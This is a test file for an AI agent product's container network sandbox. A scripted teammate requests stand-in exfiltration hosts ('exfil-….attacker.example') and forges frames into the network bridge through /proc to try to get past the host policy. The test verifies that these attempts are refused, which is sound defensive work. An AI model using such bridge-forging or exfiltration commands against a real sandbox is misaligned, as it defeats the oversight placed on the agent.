// A container teammate's network (docs/containers.md, "Network"): its container has network
// `none`, and its commands reach hosts only through the product's proxy — the same host policy
// and questions as a sandboxed command here — carried by the bridge over the engine's exec
// stream. Through the real runtime and SDK: a scripted teammate asks an allowed host (bash's
// /dev/tcp and git's own http client), a refused one, and then attacks the bridge from inside
// its container: forged frames on the bridge's own output still meet the host policy, and a
// malformed stream only stops that bridge, which the next command starts again.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import { encodeFrame } from '../../src/core/container/bridge-link';
import { reply, toolUse } from '../fake-api';
import { tempDir, waitFor } from '../helpers/tmp';
import { engineForFile } from './engine-fixture';
import { ContainerBackend } from '../../src/core/container/backend';
import { resolveContainerSettings } from '../../src/core/container/settings';
import { containerTeam, findBridge, RUN, userRepo, viaProxy } from './helpers';

const testEngine = engineForFile();


/** Frames written into the running bridge's stdout from inside the container (its pid found by its program). */
const forge = (frames: string) => `${findBridge}; printf '${frames}' > /proc/$b/fd/1 && echo forged`;

/** A frame as printf escapes (every byte \\xHH, so a length is the payload's bytes). */
const frame = (type: string, id: number, payload = '') => [...encodeFrame(type, id, Buffer.from(payload))].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');

test('a container teammate reaches an allowed host through the proxy, is refused others, and cannot get past the policy through the bridge', async (t) => {
  const engine = testEngine();
  if ('skip' in engine) return t.skip(engine.skip);
  const seen: string[] = [];
  const outside: Server = createServer((req, res) => { seen.push(`${req.method} ${req.url}`); res.end(`hello from ${req.url}\n`); });
  await new Promise<void>((r) => outside.listen(0, '127.0.0.1', r));
  t.after(() => outside.close());
  const port = (outside.address() as AddressInfo).port;
  const asked: string[] = [];
  const h = await containerTeam(t, engine, {}, {
    network: async (agent, host) => { asked.push(`${agent} ${host}`); return host === `localhost:${port}` ? 'allow' : 'deny'; },
  });
  const forged = 'GET http://exfil-5678.attacker.example/ HTTP/1.0\r\n\r\n';
  h.api.script('cy',
    reply(toolUse('bash', { command: 'env | grep -i "^https\\?_proxy=" | sort; cat /proc/net/dev | tail -n +3 | cut -d: -f1' })),
    reply(toolUse('bash', { command: viaProxy(`http://localhost:${port}/hello`) })),
    reply(toolUse('bash', { command: viaProxy('http://exfil-1234.attacker.example/') })),
    reply(toolUse('bash', { command: `git ls-remote http://localhost:${port}/repo.git 2>&1; true` })),
    // Forged: a connection opened by the bridge's own stream, asking for a refused host.
    reply(toolUse('bash', { command: forge(frame('O', 0x7777) + frame('D', 0x7777, forged)) })),
    // Forged: a length of 4 GiB.
    reply(toolUse('bash', { command: forge(frame('D', 0x7777).replace(/(\\x00){4}$/, '\\xff\\xff\\xff\\xff')) })),
    reply(toolUse('bash', { command: `${findBridge}; ${viaProxy(`http://localhost:${port}/again`)}` })),
    reply(toolUse('idle', {})),
  );
  await h.rt.spawnTeammate({ name: 'cy', role: 'dev', prompt: 'Fetch.', isolation: 'container' });
  await waitFor(async () => h.api.requests('cy').length >= 8, 120_000, 'cy done');
  const out = (n: number) => JSON.parse(JSON.stringify(h.api.requests('cy')[n]!.body.messages.at(-1))) as { content: { content: unknown }[] };
  const text = (n: number) => JSON.stringify(out(n));
  assert.match(text(1), /HTTP_PROXY=http:\/\/127\.0\.0\.1:3128/, 'commands are pointed at the proxy');
  assert.match(text(1), /\\n\s*lo\\n/, 'the container has its loopback only');
  assert.doesNotMatch(text(1), /eth0|tap0/);
  assert.match(text(2), /HTTP\/1\.1 200 OK[\s\S]*hello from \/hello/, 'the allowed host answered');
  assert.match(text(3), /HTTP\/1\.1 403 Forbidden[\s\S]*Blocked: the sandbox does not allow exfil-1234\.attacker\.example:80/);
  assert.match(text(4), /repo\.git/, 'git ran its own http client through the proxy');
  assert.match(text(5), /forged/, 'the forged frames were written');
  assert.match(text(7), /HTTP\/1\.1 200 OK[\s\S]*hello from \/again/, 'after the malformed stream the bridge was started again');
  const pid = (n: number) => /bridge=(\d+)/.exec(text(n))?.[1];
  assert.ok(pid(6) && pid(7) && pid(6) !== pid(7), `a new bridge: ${pid(6)} then ${pid(7)}`);
  // Every host was judged by the policy, once each, in the agent's name: the forged connection too.
  assert.deepEqual([...new Set(asked)].sort(), ['cy exfil-1234.attacker.example', 'cy exfil-5678.attacker.example', `cy localhost:${port}`].sort());
  assert.deepEqual(seen.filter((s) => !s.includes('repo.git')), ['GET /hello', 'GET /again'], 'nothing else reached the outside');
  assert.ok(seen.some((s) => s.startsWith('GET /repo.git/info/refs')), 'git asked the allowed host');
});

test('without a bridge program for the image the container starts with no network, and says so', async (t) => {
  const engine = testEngine();
  if ('skip' in engine) return t.skip(engine.skip);
  const root = await userRepo(t, ['nb']);
  const lines: string[] = [];
  const b = new ContainerBackend({
    root, teamName: `nonet${process.pid}`, settings: () => resolveContainerSettings({ host: engine.host, image: engine.image }),
    network: () => async () => true, bridgeDir: await tempDir(t, 'agent-teams-no-bridge-'), progress: (_a, line) => lines.push(line),
  });
  t.after(async () => { await b.prune(() => false).catch(() => undefined); await b.dispose(); });
  const started = await b.start('nb');
  assert.equal(started.network, 'none');
  assert.ok(lines.some((l) => /^no network: this build of Agent Teams has no network bridge for amd64/.test(l)), lines.join('\n'));
  const r = await b.exec('nb', 'exec 3<>/dev/tcp/127.0.0.1/3128 && echo connected', RUN);
  assert.doesNotMatch(r.output, /connected/);
  assert.match(r.output, /Connection refused/);
});
